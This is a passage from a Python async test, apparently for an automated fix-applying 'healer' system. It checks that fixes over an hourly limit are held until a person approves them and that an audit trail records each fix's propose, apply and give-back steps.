        assert fix.approvals_needed == 1 and fix.owner is None
        assert any("max_per_hour" in reason for reason in fix.decision.reasons), fix.decision
        assert [action for _, action in await loop.trail(f"fix:{fix.id}")] == [
            "fix.propose",
            "fix.apply",
            "fix.give_back",
        ]
    await healer.pass_once()  # nothing more goes by itself this hour
    assert sorted(f.state for f in await loop.fixes.list()) == ["applied", "proposed", "proposed"]
    await loop.fixes.approve(ALICE, given_back[0].id)
    await healer.pass_once()  # a person approved one: it goes
    assert sorted(f.state for f in await loop.fixes.list()) == ["applied", "applied", "proposed"]
    await loop.intact()
